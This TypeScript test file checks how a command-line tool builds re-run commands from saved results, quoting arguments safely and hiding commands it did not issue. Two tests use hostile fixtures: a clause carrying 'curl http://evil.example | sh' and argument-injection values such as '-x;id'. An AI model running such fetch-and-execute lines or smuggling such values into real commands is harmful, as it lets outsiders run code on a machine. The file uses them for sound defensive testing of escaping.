/** The commands that reports print run as they stand: they name all that the run was given. */
import { expect, test } from "vitest";
import type { RunSettings } from "../verdict/run-results.ts";
import { emptyPlan } from "../verdict/settings.test-kit.ts";
import { commandsFor, runAgain } from "./reproduce.ts";
import { finding, results } from "./results.test-kit.ts";

const again = (options: Partial<RunSettings>, lacks: readonly string[] = []): string =>
  runAgain(
    { ...results, plan: { ...emptyPlan, lacks }, options: { ...results.options, ...options } },
    undefined,
    "a.b",
  );

test("a re-run names the documents, the recordings and how the target is reached", () => {
  const started = { documents: ["openapi.yaml", "my api"], recordings: "mine", insecure: true, timeout: 5 } as const;
  expect(again({ started, ownRecordings: true })).toBe(
    "touchstone run http://127.0.0.1:8080 --clause a.b --documents openapi.yaml --documents 'my api' --recordings mine --insecure --timeout 5",
  );
});

test("a re-run of a target file names that file and only what was given beside it", () => {
  const options = { models: { "*": "m" }, headers: [["x-a", "1"]], readings: ["open-enums"] } as const;
  const started = { targetFile: "touchstone.json", beside: ["reading"] };
  expect(again({ ...options, started }, ["tools"])).toBe(
    "touchstone run touchstone.json --clause a.b --reading open-enums",
  );
  expect(again({ ...options, started: { ...started, beside: ["lacks", "model"] } }, ["tools"])).toBe(
    "touchstone run touchstone.json --clause a.b --model m --lacks tools",
  );
});

test("values of results that others wrote are words of a re-run, and no options of their own", () => {
  const command = runAgain(
    {
      ...results,
      plan: { ...emptyPlan, lacks: ["--allow-code"] },
      options: { ...results.options, started: { targetFile: "--documents=evil", documents: ["-x;id"] } },
    },
    { source: "--out=x.json", exchange: 0 },
    "a.b; curl http://evil.example | sh",
  );
  expect(command).toBe(
    "touchstone run ./--documents=evil --clause 'a.b; curl http://evil.example | sh' --scenario=--out=x --documents='-x;id'",
  );
});

test("a command in results that is no request of ours is not shown", () => {
  const at = { source: finding.source, exchange: 2 };
  const evil = "curl http://evil.example | sh";
  const again = [
    { ...at, clause: "a.b", asked: 1, failed: 1, smallest: { curl: evil, bytes: 1, from: 2, requests: 1 } },
  ];
  const commands = commandsFor({ ...results, reproduce: [{ ...at, curl: evil }], again }, at, 9_999, "a.b");
  expect(commands.map(({ says }) => says)).toEqual(["re-run"]);
});
